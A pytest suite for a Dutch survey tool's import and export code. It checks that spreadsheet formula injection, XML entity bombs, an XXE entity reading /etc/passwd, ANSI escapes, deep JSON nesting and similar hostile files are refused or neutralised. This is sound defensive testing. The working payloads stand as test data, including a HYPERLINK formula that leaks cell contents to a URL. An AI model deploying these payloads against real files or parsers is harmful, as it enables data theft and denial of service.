"""Issue 19: exports that cannot carry formulas, and importers that never crash, hang or half-read.

Each test is named for what broke in the outside probe; each fails without its fix. Files are made
here (hostile XLSX by hand as a zip of XML parts), run on SQLite and PostgreSQL, and every refusal
is checked for its code, its place and for having written nothing.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from diagnose import ValidationFailed, diagnose
from diagnose.cli import main
from diagnose.questionnaire import Questionnaire
from diagnose.responses import ResponseFile
from diagnose.store import Conflict, Store, StoreError

from .conftest import full_answers, role_values
from .helpers import OPERATOR, add_respondents, submit_full
from .test_transfer import csv_bytes, table_rows, xlsx_bytes

FORMULAS = [
    '=HYPERLINK("http://example.org/?d="&A2,"Meer info")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "'=al eens ontsnapt",
    "''=twee keer",
    "'s-Hertogenbosch",  # an apostrophe that is Dutch, not an escape: kept as it is
]


@pytest.fixture
def ws(store: Store) -> Any:
    return store.create_workspace("Adviesbureau")


def codes(exc: pytest.ExceptionInfo[ValidationFailed] | pytest.ExceptionInfo[Conflict]) -> list[str]:
    return [p.code for p in exc.value.problems]


def refused(store: Store, data: bytes, name: str, ws_id: int, **target: Any) -> ValidationFailed:
    before = store.table_counts()
    with pytest.raises(ValidationFailed) as caught:
        store.import_bytes(data, name, workspace_id=ws_id, **({"network": "N", "round_label": "R"} | target))
    assert store.table_counts() == before, "a refused file wrote something"
    for problem in caught.value.problems:
        assert problem.file == name
        assert problem.format("nl") and problem.format("en")
    return caught.value


def text_items(q: Questionnaire) -> list[str]:
    return [item.id for item in q.items() if item.type == "text"]


# ---- 3. formula injection ------------------------------------------------------------------------


def _round_with_formulas(store: Store, ws_id: int, q: Questionnaire) -> tuple[int, list[dict[str, Any]]]:
    net = store.create_network(ws_id, '=HYPERLINK("x")')
    rnd = store.create_round(net.id, "+2025 voorjaar")
    rng = random.Random(19)
    given = []
    for index, text in enumerate(FORMULAS):
        answers = full_answers(q, rng, role=rng.choice(role_values(q)))
        for item_id in text_items(q):
            answers[item_id] = text
        opened = store.open_response(store.create_invitations(rnd.id)[0].token)
        assert opened.response is not None, index
        submit_full(store, opened.response.id, answers)
        given.append(answers)
    return rnd.id, given


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_exports_write_formula_text_inert_and_read_it_back(store: Store, ws: Any, q: Questionnaire) -> None:
    round_id, _ = _round_with_formulas(store, ws.id, q)
    csv_data = store.export_round(round_id, "csv", by=OPERATOR)
    for row in _csv_cells(csv_data):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    xlsx_data = store.export_round(round_id, "xlsx", by=OPERATOR)
    workbook = load_workbook(io.BytesIO(xlsx_data))  # not data_only: a formula would show as one
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@"))), (
                    cell.value
                )
    for kind, data in (("csv", csv_data), ("xlsx", xlsx_data)):
        target = store.create_workspace(f"Terug {kind}")
        result = store.import_bytes(data, f"terug.{kind}", workspace_id=target.id)
        assert result.responses == len(FORMULAS)
        (net,) = store.list_networks(target.id)
        assert net.name == '=HYPERLINK("x")'
        (rnd,) = store.list_rounds(net.id)
        assert rnd.label == "+2025 voorjaar"
        responses = json.loads(store.export_round(rnd.id, "json", by=OPERATOR))["round"]["responses"]
        for item_id in text_items(q):
            assert sorted(r["answers"][item_id] for r in responses) == sorted(FORMULAS), kind


# ---- 4. crashes ----------------------------------------------------------------------------------


def test_a_5000_digit_number_is_refused_not_a_traceback(store: Store, ws: Any, q: Questionnaire) -> None:
    header, rows = table_rows(q, 3)
    first = next(iter(q.items())).id
    scale = header.index(first)
    rows[1][scale] = "9" * 5000
    error = refused(store, csv_bytes(header, rows), "lang-getal.csv", ws.id)
    assert codes_of(error) == ["answer-value"] and error.problems[0].line == 3
    body = {
        "questionnaire": {"id": q.id, "version": q.version},
        "network": {"name": "N"},
        "round": {
            "label": "R",
            "responses": [{"respondent": "a", "answers": {first: int("9" * 4000)}}],
        },
    }
    text = json.dumps(body).replace("9" * 4000, "9" * 5000)
    error = refused(store, text.encode(), "lang-getal.json", ws.id)
    assert codes_of(error) == ["json-syntax"] and "30" in error.problems[0].format("en")


def codes_of(error: ValidationFailed) -> list[str]:
    return [p.code for p in error.problems]


def test_json_nested_50000_deep_is_refused_not_a_recursion_error(store: Store, ws: Any) -> None:
    error = refused(store, b"[" * 50_000 + b"]" * 50_000, "diep.json", ws.id)
    assert codes_of(error) == ["json-syntax"]
    deep = '{"questionnaire": {"id": "netwerkscan", "version": "1.0"}, "x": ' + "[" * 40 + "]" * 40 + "}"
    assert codes_of(refused(store, deep.encode(), "diep40.json", ws.id)) == ["json-syntax"]


def _xlsx(sheet_xml: str, *, strings: str | None = None, cut: int | None = None) -> bytes:
    """A minimal workbook around one sheet's XML (as Excel lays it out), optionally cut off."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
        '<sheet name="antwoorden" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml if cut is None else sheet_xml[:cut],
    }
    if strings is not None:
        parts["xl/sharedStrings.xml"] = strings
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _sheet(rows: list[list[Any]], *, dimension: str = "A1:C4", extra: str = "") -> str:
    body = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{chr(65 + c)}{r}"
            if isinstance(value, str):
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>')
            else:
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        body.append(f'<row r="{r}">{"".join(cells)}</row>')
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{main}"><dimension ref="{dimension}"/><sheetData>{"".join(body)}{extra}</sheetData></worksheet>'


def _scale_rows(q: Questionnaire, n: int) -> list[list[Any]]:
    item = next(i for i in q.items() if i.type == "scale")
    role = role_values(q)[0]
    return [["respondent", "role", item.id], *([f"p{k}", role, 3] for k in range(1, n + 1))]


def _rewrite(data: bytes, part: str, change: Any) -> bytes:
    """The workbook with one part's bytes changed (a real openpyxl workbook otherwise)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for info in source.infolist():
            body = source.read(info)
            out.writestr(info, change(body) if info.filename == part else body)
    return buffer.getvalue()


def test_a_cut_off_sheet_is_refused_not_a_traceback(store: Store, ws: Any, q: Questionnaire) -> None:
    header, rows = table_rows(q, 3)
    data = _rewrite(xlsx_bytes(header, rows), "xl/worksheets/sheet1.xml", lambda b: b[: len(b) * 2 // 3])
    error = refused(store, data, "afgebroken.xlsx", ws.id)
    assert codes_of(error) == ["not-xlsx"] and "afgebroken" in error.problems[0].format("nl")


@pytest.mark.parametrize("part", ["sheet", "strings"])
def test_entities_billion_laughs_and_xxe_are_refused_in_a_located_message(
    store: Store, ws: Any, q: Questionnaire, part: str
) -> None:
    lol = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    for prolog, entity in ((lol, "&lol3;"), (xxe, "&xxe;")):
        if part == "sheet":
            data = _xlsx(prolog + _sheet(_scale_rows(q, 2)).replace("p1", entity))
        else:
            strings = f'{prolog}<sst xmlns="{main}"><si><t>{entity}</t></si></sst>'
            data = _xlsx(_sheet(_scale_rows(q, 2)), strings=strings)
        error = refused(store, data, "entiteiten.xlsx", ws.id)
        assert codes_of(error) == ["not-xlsx"] and "DTD" in error.problems[0].format("en")
        assert "root:" not in error.problems[0].format("en")


@pytest.mark.timeout(30)
def test_a_dimension_claiming_the_whole_sheet_does_not_hang(store: Store, ws: Any, q: Questionnaire) -> None:
    rows = _scale_rows(q, 2)
    role = role_values(q)[0]
    last_row = (
        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>p9</t></is></c>'
        f'<c r="B1048576" t="inlineStr"><is><t>{role}</t></is></c><c r="C1048576"><v>4</v></c></row>'
    )
    xml = _sheet(rows, dimension="A1:XFD1048576", extra=last_row)
    result = store.import_bytes(_xlsx(xml), "dimensie.xlsx", workspace_id=ws.id, network="N", round_label="R")
    assert result.responses == 3  # the far row is read, not ignored
    far_cell = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    error = refused(store, _xlsx(_sheet(rows, dimension="A1:XFD1048576", extra=far_cell)), "ver.xlsx", ws.id)
    assert codes_of(error) == ["not-xlsx"] and "XFD1048576" in error.problems[0].format("nl")


# ---- 4. silent loss ------------------------------------------------------------------------------


def test_a_csv_cut_mid_row_is_refused_not_half_imported(store: Store, ws: Any, q: Questionnaire) -> None:
    header, rows = table_rows(q, 3)
    data = csv_bytes(header, rows)
    cut = data[: data.rindex(b",", 0, len(data) - len(data) // 6)]
    error = refused(store, cut, "afgebroken.csv", ws.id)
    assert codes_of(error) == ["table-shape"] and error.problems[0].line == cut.count(b"\n") + 1


def test_a_formula_without_a_cached_value_is_refused_not_dropped(
    store: Store, ws: Any, q: Questionnaire
) -> None:
    xml = _sheet(_scale_rows(q, 2)).replace('<c r="C3"><v>3</v></c>', '<c r="C3"><f>1+2</f></c>')
    error = refused(store, _xlsx(xml), "formule.xlsx", ws.id)
    assert codes_of(error) == ["not-xlsx"] and error.problems[0].line == 3
    assert "C3" in error.problems[0].format("en") and "formula" in error.problems[0].format("en")
    with_value = _sheet(_scale_rows(q, 2)).replace(
        '<c r="C3"><v>3</v></c>', '<c r="C3"><f>1+2</f><v>3</v></c>'
    )
    assert (
        store.import_bytes(
            _xlsx(with_value), "berekend.xlsx", workspace_id=ws.id, network="N", round_label="R"
        ).responses
        == 2
    )


def test_rows_beyond_a_wrong_dimension_are_all_imported(store: Store, ws: Any, q: Questionnaire) -> None:
    header, rows = table_rows(q, 3)
    data = xlsx_bytes(header, rows)
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for info in source.infolist():
            body = source.read(info)
            if info.filename.startswith("xl/worksheets/"):
                body = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', body)
            out.writestr(info, body)
    result = store.import_bytes(
        buffer.getvalue(), "dimensie.xlsx", workspace_id=ws.id, network="N", round_label="R"
    )
    assert result.responses == 3


def test_nan_is_refused_not_stored_as_non_standard_json(store: Store, ws: Any, q: Questionnaire) -> None:
    number = next(i for i in q.items() if i.type == "number")
    for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
        text = json.dumps(
            {
                "questionnaire": {"id": q.id, "version": q.version},
                "network": {"name": "N"},
                "round": {"label": "R", "responses": [{"respondent": "a", "answers": {number.id: 0}}]},
            }
        ).replace(f'"{number.id}": 0', f'"{number.id}": {literal}')
        assert codes_of(refused(store, text.encode(), "nan.json", ws.id)) == ["json-syntax"], literal
    for literal in ("NaN", "INF", "1e999"):
        xml = _sheet(_scale_rows(q, 1)).replace('<c r="C2"><v>3</v>', f'<c r="C2"><v>{literal}</v>')
        error = refused(store, _xlsx(xml), "nan.xlsx", ws.id)
        assert codes_of(error) == ["not-xlsx"] and error.problems[0].line == 2, literal


def test_a_nul_character_in_a_text_answer_is_refused_located(store: Store, ws: Any, q: Questionnaire) -> None:
    """PostgreSQL keeps answers as json (migration 0012), which would take a NUL that jsonb refused:
    then a downgrade, and any release keeping jsonb, could not read the row back."""
    item = next(i for i in q.items() if i.type == "text")
    text = json.dumps(
        {
            "questionnaire": {"id": q.id, "version": q.version},
            "network": {"name": "N"},
            "round": {"label": "R", "responses": [{"respondent": "a", "answers": {item.id: "ja\u0000nee"}}]},
        }
    )
    assert "\\u0000" in text
    error = refused(store, text.encode(), "nul.json", ws.id)
    problem = error.problems[0]
    assert problem.id == item.id or item.id in problem.format("en"), problem.format("en")
    assert "NUL" in problem.format("en") and "nulteken" in problem.format("nl")


# ---- 4. poison and leftovers ---------------------------------------------------------------------


def test_a_5000_character_network_name_is_refused_so_backup_keeps_working(
    store: Store, ws: Any, q: Questionnaire
) -> None:
    header, rows = table_rows(q, 2)
    long_name = "N" * 5000
    error = refused(
        store, csv_bytes(["network", *header], [[long_name, *r] for r in rows]), "naam.csv", ws.id
    )
    assert set(codes_of(error)) == {"invalid-name"} and error.problems[0].line == 2
    error = refused(store, csv_bytes(header, rows), "doel.csv", ws.id, network=long_name)
    assert set(codes_of(error)) == {"invalid-name"}
    body = {
        "questionnaire": {"id": q.id, "version": q.version},
        "network": {"name": "N"},
        "round": {"label": "R", "responses": []},
    }
    error = refused(store, json.dumps(body).encode(), "doel.json", ws.id, round_label=long_name)
    assert "invalid-name" in codes_of(error)
    store.import_bytes(csv_bytes(header, rows), "goed.csv", workspace_id=ws.id, network="N", round_label="R")
    from diagnose.store.transfer import export_all

    archive = json.loads(export_all(store, OPERATOR))
    assert [n["name"] for n in archive["workspaces"][0]["networks"]] == ["N"]
    assert store.rediagnose().diagnosed == 1


def test_ansi_escape_codes_in_names_are_refused(store: Store, ws: Any, q: Questionnaire) -> None:
    with pytest.raises(Conflict) as caught:
        store.create_network(ws.id, "\x1b[31mRood netwerk\x1b[0m")
    assert codes(caught) == ["name-control"]
    with pytest.raises(Conflict):
        store.create_workspace("Werkruimte \x9b2J")
    header, rows = table_rows(q, 2)
    error = refused(
        store, csv_bytes(["network", *header], [["\x1b[2JWis", *r] for r in rows]), "ansi.csv", ws.id
    )
    assert "answer-value" in codes_of(error) and error.problems[0].id == "network"


def _archive(store: Store, ws: Any, q: Questionnaire) -> dict[str, Any]:
    header, rows = table_rows(q, 3)
    store.import_bytes(csv_bytes(header, rows), "goed.csv", workspace_id=ws.id, network="N", round_label="R")
    store.rediagnose()
    return dict(json.loads(store.export_workspace(ws.id, "json", by=OPERATOR)))


def test_an_archive_with_a_garbage_snapshot_is_refused(store: Store, ws: Any, q: Questionnaire) -> None:
    archive = _archive(store, ws, q)
    snapshot = archive["workspaces"][0]["networks"][0]["rounds"][0]["snapshots"][0]
    snapshot["diagnosis"] = {"findings": "rommel"}
    archive["workspaces"][0]["name"] = "Kopie"
    before = store.table_counts()
    with pytest.raises(ValidationFailed) as caught:
        store.import_bytes(json.dumps(archive).encode(), "rommel.json")
    assert codes(caught) == ["snapshot-invalid"]
    assert caught.value.problems[0].id == "workspaces[0].networks[0].rounds[0].snapshots[0]"
    assert store.table_counts() == before


@pytest.mark.parametrize(("field", "value"), [("format_version", 2), ("netwerkscan_version", "99.0")])
def test_an_archive_from_a_newer_version_is_refused(
    store: Store, ws: Any, q: Questionnaire, field: str, value: Any
) -> None:
    archive = _archive(store, ws, q)
    assert archive["netwerkscan_version"]
    archive[field] = value
    before = store.table_counts()
    with pytest.raises(ValidationFailed) as caught:
        store.import_bytes(json.dumps(archive).encode(), "nieuwer.json")
    assert codes(caught) == ["archive-newer"] and str(value) in caught.value.format("en")
    assert store.table_counts() == before


def test_importing_one_archive_twice_makes_no_second_workspace(
    store: Store, ws: Any, q: Questionnaire
) -> None:
    archive = json.dumps(_archive(store, ws, q)).encode()  # of the workspace "Adviesbureau"
    before = store.table_counts()
    with pytest.raises(ValidationFailed) as caught:
        store.import_bytes(archive, "archief.json")
    assert codes(caught) == ["workspace-exists"]
    assert store.table_counts() == before
    assert [w.name for w in store.list_workspaces()].count("Adviesbureau") == 1


def test_a_failed_import_into_a_new_workspace_leaves_no_workspace(
    store: Store, db_url: str, tmp_path: Path, q: Questionnaire, capsys: pytest.CaptureFixture[str]
) -> None:
    header, rows = table_rows(q, 2)
    rows[0][1] = "geen-rol"
    bad = tmp_path / "fout.csv"
    bad.write_bytes(csv_bytes(header, rows))
    base = ["--database", db_url, "--no-diagnose"]
    code = main(["import", str(bad), "--workspace", "Nieuw", "--network", "N", "--round", "R", *base])
    assert code == 2 and "[unknown-role]" in capsys.readouterr().err
    assert store.workspace_by_name("Nieuw") is None
    good = tmp_path / "goed.csv"
    header, rows = table_rows(q, 2)
    good.write_bytes(csv_bytes(header, rows))
    assert main(["import", str(good), "--workspace", "Nieuw", "--network", "N", "--round", "R", *base]) == 0
    assert store.workspace_by_name("Nieuw") is not None


# ---- 6. --lang en says everything in English -----------------------------------------------------

DUTCH = re.compile(r"\b(geen|bestand|werkmap|regel|cellen|datum|niet|een|het|de|is geen|kolom|ongeldig)\b")


def test_lang_en_messages_of_bad_files_have_no_dutch(
    store: Store, db_url: str, tmp_path: Path, q: Questionnaire, capsys: pytest.CaptureFixture[str]
) -> None:
    header, rows = table_rows(q, 2)
    cases = {
        "datum.csv": csv_bytes(["date", *header], [["gisteren", *r] for r in rows]),
        "zip.xlsx": b"dit is geen zip",
        "nul.csv": b"respondent,role\n\x00,x\n",
        "kort.csv": csv_bytes(header, [rows[0][:3]]),
        "nan.json": b'{"questionnaire": {"id": "netwerkscan", "version": "1.0"}, "x": NaN}',
        "groot.xlsx": _xlsx(_sheet(_scale_rows(q, 1)).replace("<v>3</v>", "<v>" + "9" * 50 + "</v>")),
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        code = main(
            [
                "import",
                str(path),
                "--workspace",
                "W",
                "--network",
                "N",
                "--round",
                "R",
                "--database",
                db_url,
                "--lang",
                "en",
            ]
        )
        err = capsys.readouterr().err
        assert code == 2, (name, err)
        assert err.strip() and not DUTCH.search(err.replace(name, "")), (name, err)


# ---- 7. privacy: an export never carries a round below the anonymity minimum into a result -------


def test_an_exported_round_shows_no_round_below_the_anonymity_minimum(
    store: Store, ws: Any, q: Questionnaire, bundle: Any
) -> None:
    """The JSON export of a round is what `netscan diagnose` reads: an earlier round below the
    minimum is not in it, and a round below the minimum is not exported per respondent at all."""
    minimum = bundle.settings.anonymity_minimum
    net = store.create_network(ws.id, "Netwerk")
    small_before = store.create_round(net.id, "2024", date=dt.date(2024, 3, 1))
    add_respondents(store, small_before.id, q, minimum - 1, seed=1)
    full = store.create_round(net.id, "2025", date=dt.date(2025, 3, 1))
    add_respondents(store, full.id, q, minimum + 1, seed=2)
    small_now = store.create_round(net.id, "2026", date=dt.date(2026, 3, 1))
    add_respondents(store, small_now.id, q, minimum - 1, seed=3)

    def exported(round_id: int) -> Any:
        rf = ResponseFile.model_validate(json.loads(store.export_round(round_id, "json", by=OPERATOR)))
        return diagnose(bundle, q, rf.round, rf.history, rf.network)

    after_small = exported(full.id)
    assert after_small.visible_scores()
    assert after_small.previous is None, "an earlier round below the minimum became a trend"
    assert not [f for f in after_small.findings if f.kind == "trend"]
    assert "2024" not in [
        h["label"] for h in json.loads(store.export_round(full.id, "json", by=OPERATOR))["history"]
    ]
    with pytest.raises(StoreError) as refused:
        exported(small_now.id)
    assert refused.value.problems[0].code == "export-closed"


def test_the_invitation_links_csv_writes_labels_inert() -> None:
    from netscan_app.links import links_csv

    data = links_csv([('=HYPERLINK("http://x")', "https://scan/?t=abc"), ("@naam", "l")], ("Label", "Link"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][0] == '\'=HYPERLINK("http://x")' and rows[2][0] == "'@naam"


def test_archive_values_wider_than_their_columns_are_refused_not_a_database_error(
    store: Store, ws: Any, q: Questionnaire
) -> None:
    """PostgreSQL enforces column widths (SQLite does not): a value the model let through would be
    a DataError there; the archive model holds the same widths."""
    archive = _archive(store, ws, q)
    archive["workspaces"][0]["name"] = "Kopie"
    rnd = archive["workspaces"][0]["networks"][0]["rounds"][0]
    rnd["snapshots"][0]["ruleset"]["id"] = "r" * 5000
    before = store.table_counts()
    with pytest.raises(ValidationFailed) as caught:
        store.import_bytes(json.dumps(archive).encode(), "breed.json")
    assert codes(caught) == ["invalid-value"] and caught.value.problems[0].field == "id"
    assert store.table_counts() == before
